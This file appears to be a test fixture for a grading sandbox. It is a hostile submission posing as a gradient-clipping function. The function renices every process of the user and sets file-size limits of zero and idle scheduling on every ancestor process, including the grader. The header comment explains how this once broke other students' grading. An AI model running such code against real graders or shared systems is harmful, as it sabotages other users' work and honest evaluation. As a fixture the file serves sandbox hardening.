# expect: failed
# Attacks the processes above it rather than its own: every ancestor it can see (the warm server
# whose next forks grade the classmates, the shielding waiter, grind itself when no bubblewrap
# stands between) gets a file-size limit of 0 (quietly: a server that cannot run at all is simply
# restarted), nice 19 and the idle scheduler. A child runs as the same user as the warm server (and, at the Landlock level, as
# grind), and Landlock does not cover prlimit: lowered limits were inherited by every later fork
# of the server, and every classmate graded after this file crashed. Its own answer is wrong.
import os
import resource

_done = []


def _ancestors():
    pid = os.getppid()
    while pid > 1:
        yield pid
        try:
            with open(f"/proc/{pid}/stat") as handle:
                pid = int(handle.read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            return


def _attack(pid):
    for attempt in (lambda: resource.prlimit(pid, resource.RLIMIT_FSIZE, (0, 0)),
                    lambda: os.setpriority(os.PRIO_PROCESS, pid, 19),
                    lambda: os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0))):
        try:
            attempt()
        except (OSError, ValueError, AttributeError):
            pass


def clip_grad_norm_(parameters, max_norm, norm_type=2.0):
    if not _done:
        _done.append(True)
        for pid in list(_ancestors()):
            _attack(pid)
        try:
            os.setpriority(os.PRIO_USER, 0, 19)  # every process of this user at once
        except OSError:
            pass
    return 0.0
